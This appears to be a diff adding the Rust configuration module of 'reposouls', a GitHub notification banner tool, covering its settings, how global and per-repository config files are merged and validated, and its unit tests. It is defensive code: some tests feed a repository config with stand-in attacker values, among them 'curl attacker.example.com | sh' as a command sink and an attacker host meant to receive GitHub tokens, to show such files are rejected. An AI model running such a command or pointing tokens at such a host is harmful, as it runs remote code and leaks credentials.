@@ -0,0 +1,945 @@
+use crate::events::NotificationKind;
+use crate::git::repository_root;
+use crate::github::RetryPolicy;
+use crate::github::api_base_for_host;
+use crate::target::{Target, TargetConfig};
+use serde::Deserialize;
+use std::collections::HashMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+/// The name of the directory under `dirs::config_dir()` holding the global config.
+const CONFIG_DIR_NAME: &str = "reposouls";
+/// The name of the global configuration file.
+const CONFIG_FILE_NAME: &str = "config.toml";
+/// The name of the per-repository configuration file, which overrides the global one.
+const REPO_CONFIG_FILE_NAME: &str = ".reposouls.toml";
+
+/// The settings only read from the global configuration file, with why. A cloned repository
+/// must not be able to choose them through its `.reposouls.toml`.
+const GLOBAL_ONLY_SETTINGS: &[(&str, &str)] = &[
+    ("hosts", "decides where GitHub tokens are sent"),
+    ("sinks", "runs commands and writes files"),
+];
+
+/// The banner images embedded in the binary.
+pub const BUILTIN_IMAGES: &[&str] = &[
+    "CI PIPELINE GREENED.png",
+    "CI PIPELINE FAILED.png",
+    "PR APPROVAL GRANTED.png",
+    "PR CHANGES REQUIRED.png",
+    "PR MERGE COMPLETED.png",
+    "PR NEW COMMENT APPEARED.png",
+];
+
+/// The runtime configuration of reposouls.
+///
+/// Every field has a default, so an empty or missing file yields the built-in behaviour.
+#[derive(Deserialize, Debug, Clone)]
+#[serde(default, deny_unknown_fields)]
+pub struct Config {
+    /// How often to poll GitHub for new events, in seconds.
+    pub poll_interval_secs: u64,
+    /// Per-host settings, keyed by the host serving the repositories, e.g.
+    /// `[hosts."github.example.com"]`. Only read from the global configuration file.
+    pub hosts: HashMap<String, HostConfig>,
+    /// The git remote to monitor when the current branch has neither a push remote nor a
+    /// tracking remote configured. Defaults to `origin`.
+    pub remote: Option<String>,
+    /// The git remote holding the repository pull requests are opened against, for fork
+    /// workflows. Defaults to `upstream` if it exists, otherwise to the monitored remote.
+    pub base_remote: Option<String>,
+    /// The watch-list. Defaults to the current directory when empty.
+    /// Targets given on the command line replace this list.
+    pub targets: Vec<TargetConfig>,
+    /// Settings for requests to the GitHub API.
+    pub network: NetworkConfig,
+    /// Settings for the overlay window.
+    pub gui: GuiConfig,
+    /// Settings for notifications waiting to be shown.
+    pub queue: QueueConfig,
+    /// Settings for events missed while reposouls was not running.
+    pub catch_up: CatchUpConfig,
+    /// Per-event settings.
+    pub events: EventsConfig,
+    /// Where events are delivered besides the overlay or the terminal banners. Only read
+    /// from the global configuration file.
+    pub sinks: Vec<SinkConfig>,
+}
+
+/// Settings for the repositories served by one host.
+#[derive(Deserialize, Debug, Clone, Default, PartialEq, Eq)]
+#[serde(default, deny_unknown_fields)]
+pub struct HostConfig {
+    /// The base URL of the host's GitHub API, e.g. `https://github.example.com/api/v3`.
+    /// Defaults to the endpoint matching the host.
+    pub api_base: Option<String>,
+}
+
+/// Settings for requests to the GitHub API.
+#[derive(Deserialize, Debug, Clone)]
+#[serde(default, deny_unknown_fields)]
+pub struct NetworkConfig {
+    /// How long a single request may take before it is abandoned, in seconds.
+    pub timeout_secs: u64,
+    /// How many times a request is retried after a connection error, a timeout or a
+    /// `502`, `503` or `504` response.
+    pub retries: u32,
+}
+
+/// Settings for the overlay window.
+#[derive(Deserialize, Debug, Clone)]
+#[serde(default, deny_unknown_fields)]
+pub struct GuiConfig {
+    /// Whether to draw the event details beneath the banner.
+    pub subtitles: bool,
+    /// A TTF or OTF file to draw the subtitles with.
+    /// Defaults to the first serif font found among common system fonts.
+    pub font: Option<String>,
+    /// The size of the subtitle text, in points.
+    pub font_size: f32,
+    /// How banners are dismissed, unless overridden for the event.
+    pub dismiss: DismissPolicy,
+    /// How long banners stay on screen before they may be dismissed, in seconds,
+    /// unless overridden for the event.
+    pub display_secs: f64,
+}
+
+/// How a banner is taken off the screen.
+#[derive(Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum DismissPolicy {
+    /// Fade out once the display time has passed.
+    Duration,
+    /// Fade out on the first key press, mouse movement, click or scroll after the display
+    /// time has passed. The overlay captures the mouse from then on to notice it. Key
+    /// presses in any window count on X11, Windows and macOS.
+    Activity,
+    /// Fade out when the banner is clicked. The overlay captures the mouse while the banner
+    /// is on screen, so clicks elsewhere do not reach the windows beneath; they are ignored.
+    Click,
+}
+
+/// Settings for notifications waiting to be shown.
+#[derive(Deserialize, Debug, Clone)]
+#[serde(default, deny_unknown_fields)]
+pub struct QueueConfig {
+    /// Whether to merge waiting events of the same kind, e.g. into "3 new comments".
+    pub coalesce: bool,
+    /// The maximum number of waiting notifications. Beyond this, the oldest of the lowest
+    /// priority is dropped.
+    pub max_len: usize,
+    /// What happens to a banner interrupted by a higher-priority notification.
+    pub preempted: PreemptPolicy,
+}
+
+/// What happens to a banner interrupted by a higher-priority notification.
+#[derive(Deserialize, Debug, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum PreemptPolicy {
+    /// Put it back at the front of the queue to be shown again in full.
+    Requeue,
+    /// Discard it.
+    Drop,
+}
+
+/// Settings for events missed while reposouls was not running.
+#[derive(Deserialize, Debug, Clone)]
+#[serde(default, deny_unknown_fields)]
+pub struct CatchUpConfig {
+    /// Whether to report events that happened since a branch was last checked.
+    /// When disabled, only events from startup on are reported.
+    pub enabled: bool,
+    /// The number of missed events above which they are summarised into one banner per
+    /// kind and pull request, e.g. "12 new comments".
+    pub max_events: usize,
+}
+
+/// A destination for events, given in the global configuration file as e.g.
+///
+/// ```toml
+/// [[sinks]]
+/// type = "command"
+/// command = "notify-send reposouls \"$REPOSOULS_SUMMARY\""
+/// ```
+///
+/// A repository's `.reposouls.toml` may not add sinks, as cloning a repository must not be
+/// enough to run its commands.
+#[derive(Deserialize, Debug, Clone, PartialEq, Eq)]
+#[serde(tag = "type", rename_all = "snake_case", deny_unknown_fields)]
+pub enum SinkConfig {
+    /// Print a line per event to standard output.
+    Stdout,
+    /// Append each event to a file as a line of JSON.
+    Jsonl {
+        /// The file to append to. It is created if missing. Relative paths are resolved
+        /// against the configuration file's directory.
+        path: String,
+    },
+    /// Run a shell command per event, with the event as JSON on its standard input and
+    /// its main fields in `REPOSOULS_*` environment variables.
+    Command {
+        /// The command, run with `sh -c` (`cmd /C` on Windows).
+        command: String,
+    },
+}
+
+/// Settings for each kind of notification event.
+#[derive(Deserialize, Debug, Clone, Default)]
+#[serde(default, deny_unknown_fields)]
+pub struct EventsConfig {
+    pub ci_success: EventConfig,
+    pub ci_failure: EventConfig,
+    pub pr_approved: EventConfig,
+    pub pr_changes_requested: EventConfig,
+    pub pr_merged: EventConfig,
+    pub pr_new_comment: EventConfig,
+}
+
+/// Settings for a single kind of notification event.
+#[derive(Deserialize, Debug, Clone)]
+#[serde(default, deny_unknown_fields)]
+pub struct EventConfig {
+    /// Whether the event is reported at all.
+    pub enabled: bool,
+    /// The banner to display: either the name of a built-in image or a path to a PNG file.
+    /// Defaults to the built-in banner for the event.
+    pub image: Option<String>,
+    /// How important the event is. A notification interrupts a banner of lower priority
+    /// and is shown before waiting notifications of lower priority.
+    /// Defaults to the event's built-in priority.
+    pub priority: Option<u8>,
+    /// How the banner is dismissed. Defaults to `gui.dismiss`.
+    pub dismiss: Option<DismissPolicy>,
+    /// How long the banner stays on screen before it may be dismissed, in seconds.
+    /// Defaults to `gui.display_secs`.
+    pub display_secs: Option<f64>,
+}
+
+impl Default for Config {
+    fn default() -> Self {
+        Self {
+            poll_interval_secs: 10,
+            hosts: HashMap::new(),
+            remote: None,
+            base_remote: None,
+            targets: Vec::new(),
+            network: NetworkConfig::default(),
+            gui: GuiConfig::default(),
+            queue: QueueConfig::default(),
+            catch_up: CatchUpConfig::default(),
+            events: EventsConfig::default(),
+            sinks: Vec::new(),
+        }
+    }
+}
+
+impl Default for NetworkConfig {
+    fn default() -> Self {
+        Self {
+            timeout_secs: 15,
+            retries: 3,
+        }
+    }
+}
+
+impl Default for GuiConfig {
+    fn default() -> Self {
+        Self {
+            subtitles: true,
+            font: None,
+            font_size: 28.0,
+            dismiss: DismissPolicy::Duration,
+            display_secs: 3.0,
+        }
+    }
+}
+
+impl Default for QueueConfig {
+    fn default() -> Self {
+        Self {
+            coalesce: true,
+            max_len: 10,
+            preempted: PreemptPolicy::Requeue,
+        }
+    }
+}
+
+impl Default for CatchUpConfig {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            max_events: 5,
+        }
+    }
+}
+
+impl Default for EventConfig {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            image: None,
+            priority: None,
+            dismiss: None,
+            display_secs: None,
+        }
+    }
+}
+
+impl Config {
+    /// Loads the global configuration and applies the per-repository override on top of it.
+    ///
+    /// The global file lives at `<config dir>/reposouls/config.toml` and the override at
+    /// `.reposouls.toml` in the root of the current repository or worktree. Missing files
+    /// are skipped.
+    pub fn load() -> Result<Self, String> {
+        let global = dirs::config_dir().map(|dir| dir.join(CONFIG_DIR_NAME).join(CONFIG_FILE_NAME));
+        let repo_dir = repository_root().unwrap_or_else(|| PathBuf::from("."));
+        Self::load_from(
+            global.as_deref(),
+            Some(&repo_dir.join(REPO_CONFIG_FILE_NAME)),
+        )
+    }
+
+    /// Loads the global configuration file and merges the per-repository one on top of it.
+    ///
+    /// The per-repository file comes with whatever repository is checked out, so it may not
+    /// set the settings in `GLOBAL_ONLY_SETTINGS`, nor the host of a target.
+    ///
+    /// # Arguments
+    ///
+    /// * `global` - The global configuration file. Skipped if it does not exist.
+    /// * `repo` - The per-repository configuration file. Skipped if it does not exist.
+    pub fn load_from(global: Option<&Path>, repo: Option<&Path>) -> Result<Self, String> {
+        let mut merged = toml::Table::new();
+        if let Some(global) = global.filter(|path| path.exists()) {
+            merged = read_table(global)?;
+        }
+        if let Some(repo) = repo.filter(|path| path.exists()) {
+            let table = read_table(repo)?;
+            if let Some((key, reason)) = global_only_setting(&table) {
+                return Err(format!(
+                    "Invalid config file {}: `{}` can only be set in the global configuration \
+                     file, as it {}",
+                    repo.display(),
+                    key,
+                    reason
+                ));
+            }
+            merge_tables(&mut merged, table);
+        }
+
+        let config: Config = toml::Value::Table(merged)
+            .try_into()
+            .map_err(|e| format!("Invalid configuration: {}", e))?;
+        config.validate()?;
+        Ok(config)
+    }
+
+    /// Checks that the configuration values are usable.
+    pub fn validate(&self) -> Result<(), String> {
+        if self.poll_interval_secs == 0 {
+            return Err("poll_interval_secs must be at least 1".to_string());
+        }
+
+        for (host, settings) in &self.hosts {
+            if let Some(api_base) = &settings.api_base
+                && !api_base.starts_with("https://")
+                && !api_base.starts_with("http://")
+            {
+                return Err(format!(
+                    "hosts.\"{}\".api_base '{}' must be an http:// or https:// URL",
+                    host, api_base
+                ));
+            }
+        }
+
+        if let Some(remote) = &self.remote
+            && remote.trim().is_empty()
+        {
+            return Err("remote must not be empty".to_string());
+        }
+
+        if let Some(base_remote) = &self.base_remote
+            && base_remote.trim().is_empty()
+        {
+            return Err("base_remote must not be empty".to_string());
+        }
+
+        for target in &self.targets {
+            target.to_target()?;
+        }
+
+        if self.network.timeout_secs == 0 {
+            return Err("network.timeout_secs must be at least 1".to_string());
+        }
+
+        if !(self.gui.font_size > 0.0 && self.gui.font_size <= 200.0) {
+            return Err(format!(
+                "gui.font_size must be between 0 and 200, got {}",
+                self.gui.font_size
+            ));
+        }
+
+        if !(self.gui.display_secs > 0.0 && self.gui.display_secs <= 3600.0) {
+            return Err(format!(
+                "gui.display_secs must be between 0 and 3600, got {}",
+                self.gui.display_secs
+            ));
+        }
+
+        if self.queue.max_len == 0 {
+            return Err("queue.max_len must be at least 1".to_string());
+        }
+
+        if let Some(font) = &self.gui.font
+            && !Path::new(font).is_file()
+        {
+            return Err(format!("gui.font '{}' is not an existing file", font));
+        }
+
+        for (i, sink) in self.sinks.iter().enumerate() {
+            match sink {
+                SinkConfig::Stdout => {}
+                SinkConfig::Jsonl { path } if path.trim().is_empty() => {
+                    return Err(format!("sinks[{}].path must not be empty", i));
+                }
+                SinkConfig::Command { command } if command.trim().is_empty() => {
+                    return Err(format!("sinks[{}].command must not be empty", i));
+                }
+                SinkConfig::Jsonl { .. } | SinkConfig::Command { .. } => {}
+            }
+        }
+
+        for event in NotificationKind::ALL {
+            if let Some(display_secs) = self.event(&event).display_secs
+                && !(display_secs > 0.0 && display_secs <= 3600.0)
+            {
+                return Err(format!(
+                    "events.{}.display_secs must be between 0 and 3600, got {}",
+                    event.key(),
+                    display_secs
+                ));
+            }
+            if let Some(image) = &self.event(&event).image {
+                if image.trim().is_empty() {
+                    return Err(format!("events.{}.image must not be empty", event.key()));
+                }
+                if !BUILTIN_IMAGES.contains(&image.as_str()) && !Path::new(image).is_file() {
+                    return Err(format!(
+                        "events.{}.image '{}' is neither a built-in banner ({}) nor an existing file",
+                        event.key(),
+                        image,
+                        BUILTIN_IMAGES.join(", ")
+                    ));
+                }
+            }
+        }
+
+        Ok(())
+    }
+
+    /// Returns the configured watch-list, or the current directory if it is empty.
+    pub fn targets(&self) -> Result<Vec<Target>, String> {
+        if self.targets.is_empty() {
+            return Ok(vec![Target::current_dir()]);
+        }
+        self.targets.iter().map(TargetConfig::to_target).collect()
+    }
+
+    /// Returns the base URL of the GitHub API serving the repositories on `host`.
+    ///
+    /// # Arguments
+    ///
+    /// * `host` - The host serving the repositories, e.g. `github.com`.
+    /// * `port` - The port of the host's web server, if the remote names one.
+    pub fn api_base_for(&self, host: &str, port: Option<u16>) -> String {
+        self.hosts
+            .iter()
+            .find(|(name, _)| name.eq_ignore_ascii_case(host))
+            .and_then(|(_, settings)| settings.api_base.clone())
+            .unwrap_or_else(|| api_base_for_host(host, port))
+    }
+
+    /// Returns the interval between two polls of the GitHub API.
+    pub fn poll_interval(&self) -> Duration {
+        Duration::from_secs(self.poll_interval_secs)
+    }
+
+    /// Returns how requests to the GitHub API are timed out and retried.
+    pub fn retry_policy(&self) -> RetryPolicy {
+        RetryPolicy {
+            timeout: Duration::from_secs(self.network.timeout_secs),
+            retries: self.network.retries,
+            ..RetryPolicy::default()
+        }
+    }
+
+    /// Returns the settings for the given event.
+    pub fn event(&self, event: &NotificationKind) -> &EventConfig {
+        match event {
+            NotificationKind::CiSuccess => &self.events.ci_success,
+            NotificationKind::CiFailure => &self.events.ci_failure,
+            NotificationKind::PrApproved => &self.events.pr_approved,
+            NotificationKind::PrChangesRequested => &self.events.pr_changes_requested,
+            NotificationKind::PrMerged => &self.events.pr_merged,
+            NotificationKind::PrNewComment => &self.events.pr_new_comment,
+        }
+    }
+
+    /// Returns whether the given event should be reported.
+    pub fn is_enabled(&self, event: &NotificationKind) -> bool {
+        self.event(event).enabled
+    }
+
+    /// Returns the priority of the given event, falling back to the built-in one.
+    pub fn priority_for(&self, event: &NotificationKind) -> u8 {
+        self.event(event)
+            .priority
+            .unwrap_or_else(|| event.default_priority())
+    }
+
+    /// Returns how the banner for the given event is dismissed.
+    pub fn dismiss_for(&self, event: &NotificationKind) -> DismissPolicy {
+        self.event(event).dismiss.unwrap_or(self.gui.dismiss)
+    }
+
+    /// Returns how long the banner for the given event stays on screen before it may be
+    /// dismissed.
+    pub fn display_time_for(&self, event: &NotificationKind) -> Duration {
+        let secs = self
+            .event(event)
+            .display_secs
+            .unwrap_or(self.gui.display_secs);
+        Duration::from_secs_f64(secs)
+    }
+
+    /// Returns the banner image for the given event, falling back to the built-in one.
+    pub fn image_for(&self, event: &NotificationKind) -> &str {
+        self.event(event)
+            .image
+            .as_deref()
+            .unwrap_or_else(|| default_image_for(event))
+    }
+}
+
+/// Returns the built-in banner image for the given event.
+fn default_image_for(event: &NotificationKind) -> &'static str {
+    match event {
+        NotificationKind::CiSuccess => "CI PIPELINE GREENED.png",
+        NotificationKind::CiFailure => "CI PIPELINE FAILED.png",
+        NotificationKind::PrApproved => "PR APPROVAL GRANTED.png",
+        NotificationKind::PrChangesRequested => "PR CHANGES REQUIRED.png",
+        NotificationKind::PrMerged => "PR MERGE COMPLETED.png",
+        NotificationKind::PrNewComment => "PR NEW COMMENT APPEARED.png",
+    }
+}
+
+/// Returns the first setting in `table` that only the global configuration file may set,
+/// with why.
+///
+/// Besides `GLOBAL_ONLY_SETTINGS`, that is the host of a watched repository, whose token
+/// would otherwise be sent wherever the file says.
+fn global_only_setting(table: &toml::Table) -> Option<(String, &'static str)> {
+    if let Some((key, reason)) = GLOBAL_ONLY_SETTINGS
+        .iter()
+        .find(|(key, _)| table.contains_key(*key))
+    {
+        return Some((key.to_string(), reason));
+    }
+    let targets = table.get("targets")?.as_array()?;
+    targets
+        .iter()
+        .position(|target| target.get("host").is_some())
+        .map(|i| {
+            (
+                format!("targets[{}].host", i),
+                "decides where GitHub tokens are sent",
+            )
+        })
+}
+
+/// Reads a single configuration file into a TOML table.
+///
+/// The file is also deserialized on its own so that errors point at the file that caused
+/// them, and relative image, font, target and sink paths are resolved against the file's
+/// directory.
+fn read_table(path: &Path) -> Result<toml::Table, String> {
+    let contents = fs::read_to_string(path)
+        .map_err(|e| format!("Failed to read config file {}: {}", path.display(), e))?;
+    let mut table: toml::Table = contents
+        .parse()
+        .map_err(|e| format!("Failed to parse config file {}: {}", path.display(), e))?;
+
+    toml::Value::Table(table.clone())
+        .try_into::<Config>()
+        .map_err(|e| format!("Invalid config file {}: {}", path.display(), e))?;
+
+    let base_dir = path.parent().unwrap_or_else(|| Path::new("."));
+    if let Some(toml::Value::Table(events)) = table.get_mut("events") {
+        for (_, event) in events.iter_mut() {
+            if let Some(toml::Value::String(image)) = event.get_mut("image")
+                && !BUILTIN_IMAGES.contains(&image.as_str())
+                && Path::new(image.as_str()).is_relative()
+            {
+                *image = resolve_path(base_dir, image).to_string_lossy().into_owned();
+            }
+        }
+    }
+
+    if let Some(toml::Value::String(font)) =
+        table.get_mut("gui").and_then(|gui| gui.get_mut("font"))
+    {
+        *font = resolve_path(base_dir, font).to_string_lossy().into_owned();
+    }
+
+    for list in ["targets", "sinks"] {
+        if let Some(toml::Value::Array(entries)) = table.get_mut(list) {
+            for entry in entries.iter_mut() {
+                // An empty path is left for `validate` to report.
+                if let Some(toml::Value::String(path)) = entry.get_mut("path")
+                    && !path.trim().is_empty()
+                {
+                    *path = resolve_path(base_dir, path).to_string_lossy().into_owned();
+                }
+            }
+        }
+    }
+
+    Ok(table)
+}
+
+/// Resolves a path from a configuration file, expanding a leading `~/` to the home directory
+/// and joining relative paths onto `base_dir`.
+fn resolve_path(base_dir: &Path, path: &str) -> PathBuf {
+    if let Some(rest) = path.strip_prefix("~/")
+        && let Some(home) = dirs::home_dir()
+    {
+        return home.join(rest);
+    }
+    base_dir.join(path)
+}
+
+/// Recursively merges `overlay` into `base`, with values from `overlay` taking precedence.
+fn merge_tables(base: &mut toml::Table, overlay: toml::Table) {
+    for (key, value) in overlay {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base_table)), toml::Value::Table(overlay_table)) => {
+                merge_tables(base_table, overlay_table);
+            }
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::testing::TempDir;
+
+    #[test]
+    fn repository_file_overrides_the_global_one() {
+        let dir = TempDir::new("config-override");
+        let global = dir.write(
+            "global/config.toml",
+            "poll_interval_secs = 30\n\
+             [gui]\n\
+             subtitles = false\n\
+             font_size = 20.0\n\
+             [queue]\n\
+             max_len = 3\n",
+        );
+        let repo = dir.write(
+            "repo/.reposouls.toml",
+            "poll_interval_secs = 5\n\
+             [gui]\n\
+             font_size = 40.0\n",
+        );
+
+        let config = Config::load_from(Some(&global), Some(&repo)).unwrap();
+        assert_eq!(config.poll_interval_secs, 5);
+        assert_eq!(config.gui.font_size, 40.0);
+        // Tables are merged key by key, so the rest of the global ones is kept.
+        assert!(!config.gui.subtitles);
+        assert_eq!(config.queue.max_len, 3);
+        assert_eq!(config.gui.display_secs, 3.0);
+    }
+
+    #[test]
+    fn api_bases_are_set_per_host() {
+        let dir = TempDir::new("config-hosts");
+        let global = dir.write(
+            "config.toml",
+            "[hosts.\"GHE.example.com\"]\n\
+             api_base = \"https://ghe.example.com/custom/api\"\n",
+        );
+        let config = Config::load_from(Some(&global), None).unwrap();
+        assert_eq!(
+            config.api_base_for("ghe.example.com", Some(8443)),
+            "https://ghe.example.com/custom/api"
+        );
+        assert_eq!(
+            config.api_base_for("github.com", None),
+            "https://api.github.com"
+        );
+        assert_eq!(
+            config.api_base_for("other.example.com", Some(8443)),
+            "https://other.example.com:8443/api/v3"
+        );
+    }
+
+    #[test]
+    fn repository_file_cannot_choose_where_tokens_go() {
+        let dir = TempDir::new("config-untrusted");
+        let repo = dir.write(
+            ".reposouls.toml",
+            "[hosts.\"github.com\"]\n\
+             api_base = \"http://attacker.example.com\"\n",
+        );
+        let error = Config::load_from(None, Some(&repo)).unwrap_err();
+        assert_eq!(
+            error,
+            format!(
+                "Invalid config file {}: `hosts` can only be set in the global configuration \
+                 file, as it decides where GitHub tokens are sent",
+                repo.display()
+            )
+        );
+    }
+
+    #[test]
+    fn repository_file_cannot_choose_the_host_of_a_target() {
+        let dir = TempDir::new("config-untrusted-target");
+        let repo = dir.write(
+            ".reposouls.toml",
+            "[[targets]]\n\
+             repo = \"octo/hello\"\n\
+             branch = \"main\"\n\
+             [[targets]]\n\
+             repo = \"a/b\"\n\
+             host = \"attacker.example\"\n\
+             branch = \"main\"\n",
+        );
+        let error = Config::load_from(None, Some(&repo)).unwrap_err();
+        assert_eq!(
+            error,
+            format!(
+                "Invalid config file {}: `targets[1].host` can only be set in the global \
+                 configuration file, as it decides where GitHub tokens are sent",
+                repo.display()
+            )
+        );
+
+        // Repositories on github.com, where the token goes anyway, are fine.
+        let repo = dir.write(
+            ".reposouls.toml",
+            "[[targets]]\nrepo = \"octo/hello\"\nbranch = \"main\"\n",
+        );
+        let config = Config::load_from(None, Some(&repo)).unwrap();
+        assert_eq!(config.targets.len(), 1);
+    }
+
+    #[test]
+    fn repository_file_cannot_add_sinks() {
+        let dir = TempDir::new("config-sinks");
+        let global = dir.write("config.toml", "[[sinks]]\ntype = \"stdout\"\n");
+        let repo = dir.write(
+            ".reposouls.toml",
+            "[[sinks]]\ntype = \"command\"\ncommand = \"curl attacker.example.com | sh\"\n",
+        );
+        let error = Config::load_from(Some(&global), Some(&repo)).unwrap_err();
+        assert_eq!(
+            error,
+            format!(
+                "Invalid config file {}: `sinks` can only be set in the global configuration \
+                 file, as it runs commands and writes files",
+                repo.display()
+            )
+        );
+
+        let config = Config::load_from(Some(&global), None).unwrap();
+        assert_eq!(config.sinks, [SinkConfig::Stdout]);
+    }
+
+    #[test]
+    fn missing_files_yield_the_defaults() {
+        let dir = TempDir::new("config-missing");
+        let config = Config::load_from(
+            Some(&dir.path().join("config.toml")),
+            Some(&dir.path().join(".reposouls.toml")),
+        )
+        .unwrap();
+        assert_eq!(config.poll_interval_secs, 10);
+        assert!(config.catch_up.enabled);
+        assert_eq!(
+            config.image_for(&NotificationKind::CiFailure),
+            "CI PIPELINE FAILED.png"
+        );
+    }
+
+    #[test]
+    fn paths_are_resolved_against_the_file_that_sets_them() {
+        let dir = TempDir::new("config-paths");
+        dir.write("global/banners/failed.png", "");
+        dir.write("global/fonts/serif.ttf", "");
+        fs::create_dir_all(dir.path().join("checkout")).unwrap();
+        let global = dir.write(
+            "global/config.toml",
+            "[gui]\n\
+             font = \"fonts/serif.ttf\"\n\
+             [events.ci_failure]\n\
+             image = \"banners/failed.png\"\n\
+             [events.ci_success]\n\
+             image = \"CI PIPELINE GREENED.png\"\n\
+             [[targets]]\n\
+             path = \"../checkout\"\n\
+             [[sinks]]\n\
+             type = \"jsonl\"\n\
+             path = \"logs/events.jsonl\"\n",
+        );
+
+        let config = Config::load_from(Some(&global), None).unwrap();
+        let base = dir.path().join("global");
+        assert_eq!(
+            config.image_for(&NotificationKind::CiFailure),
+            base.join("banners/failed.png").to_str().unwrap()
+        );
+        assert_eq!(
+            config.gui.font.as_deref(),
+            base.join("fonts/serif.ttf").to_str()
+        );
+        assert_eq!(
+            config.targets[0].path.as_deref(),
+            Some(base.join("../checkout").as_path())
+        );
+        assert_eq!(
+            config.sinks,
+            [SinkConfig::Jsonl {
+                path: base
+                    .join("logs/events.jsonl")
+                    .to_string_lossy()
+                    .into_owned()
+            }]
+        );
+        // Built-in banners are names, not paths.
+        assert_eq!(
+            config.image_for(&NotificationKind::CiSuccess),
+            "CI PIPELINE GREENED.png"
+        );
+
+        let tilde = dir.write(
+            "tilde.toml",
+            "[events.pr_merged]\n\
+             image = \"~/banners/merged.png\"\n\
+             [[sinks]]\n\
+             type = \"jsonl\"\n\
+             path = \"~/reposouls/events.jsonl\"\n",
+        );
+        let table = read_table(&tilde).unwrap();
+        let home = dirs::home_dir().unwrap();
+        assert_eq!(
+            table["events"]["pr_merged"]["image"].as_str(),
+            home.join("banners/merged.png").to_str()
+        );
+        assert_eq!(
+            table["sinks"][0]["path"].as_str(),
+            home.join("reposouls/events.jsonl").to_str()
+        );
+
+        // Empty paths are still reported rather than resolved to the directory.
+        let empty = dir.write("empty.toml", "[[sinks]]\ntype = \"jsonl\"\npath = \"\"\n");
+        assert_eq!(
+            Config::load_from(Some(&empty), None).unwrap_err(),
+            "sinks[0].path must not be empty"
+        );
+    }
+
+    #[test]
+    fn invalid_settings_are_reported() {
+        let dir = TempDir::new("config-invalid");
+        let cases = [
+            (
+                "poll_interval_secs = 0",
+                "poll_interval_secs must be at least 1",
+            ),
+            (
+                "[hosts.\"github.example.com\"]\napi_base = \"ftp://github.example.com\"",
+                "hosts.\"github.example.com\".api_base 'ftp://github.example.com' must be an \
+                 http:// or https:// URL",
+            ),
+            ("remote = \" \"", "remote must not be empty"),
+            ("base_remote = \"\"", "base_remote must not be empty"),
+            (
+                "[[targets]]\nrepo = \"octo/hello\"",
+                "target octo/hello: branch is required with repo",
+            ),
+            (
+                "[network]\ntimeout_secs = 0",
+                "network.timeout_secs must be at least 1",
+            ),
+            (
+                "[gui]\nfont_size = 0.0",
+                "gui.font_size must be between 0 and 200, got 0",
+            ),
+            (
+                "[gui]\ndisplay_secs = 7200.0",
+                "gui.display_secs must be between 0 and 3600, got 7200",
+            ),
+            (
+                "[gui]\nfont = \"/nonexistent/font.ttf\"",
+                "gui.font '/nonexistent/font.ttf' is not an existing file",
+            ),
+            ("[queue]\nmax_len = 0", "queue.max_len must be at least 1"),
+            (
+                "[events.pr_merged]\ndisplay_secs = -1.0",
+                "events.pr_merged.display_secs must be between 0 and 3600, got -1",
+            ),
+            (
+                "[events.ci_failure]\nimage = \"/nonexistent/failed.png\"",
+                "events.ci_failure.image '/nonexistent/failed.png' is neither a built-in banner",
+            ),
+            (
+                "[[sinks]]\ntype = \"command\"\ncommand = \"\"",
+                "sinks[0].command must not be empty",
+            ),
+        ];
+
+        for (i, (contents, expected)) in cases.into_iter().enumerate() {
+            let path = dir.write(&format!("case-{}.toml", i), contents);
+            let error = Config::load_from(Some(&path), None).unwrap_err();
+            assert!(
+                error.contains(expected),
+                "expected {:?} to contain {:?}",
+                error,
+                expected
+            );
+        }
+    }
+
+    #[test]
+    fn malformed_files_are_named_in_the_error() {
+        let dir = TempDir::new("config-malformed");
+        let unparsable = dir.write("unparsable.toml", "poll_interval_secs = ");
+        let error = Config::load_from(None, Some(&unparsable)).unwrap_err();
+        assert!(
+            error.starts_with(&format!(
+                "Failed to parse config file {}",
+                unparsable.display()
+            )),
+            "unexpected error: {}",
+            error
+        );
+
+        let unknown = dir.write("unknown.toml", "[gui]\nsubtitle = true\n");
+        let error = Config::load_from(Some(&unknown), None).unwrap_err();
+        assert!(
+            error.starts_with(&format!("Invalid config file {}", unknown.display())),
+            "unexpected error: {}",
+            error
+        );
+        assert!(error.contains("subtitle"), "unexpected error: {}", error);
+    }
+}